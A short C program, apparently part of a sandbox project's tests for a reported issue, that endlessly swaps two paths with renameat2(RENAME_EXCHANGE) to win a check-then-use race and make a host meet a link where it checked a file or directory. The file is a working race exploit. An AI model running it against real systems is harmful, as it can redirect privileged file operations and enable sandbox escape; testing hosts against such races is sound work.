/* The attacker's racer: swaps two names in a sandbox for ever with renameat2(RENAME_EXCHANGE), so that a host
 * that checks a path and then uses it by name meets a link where it checked a directory or file (issue 20). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: racer A B\n");
        return 2;
    }
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */) < 0) {
            perror("renameat2");
            return 1;
        }
    }
}
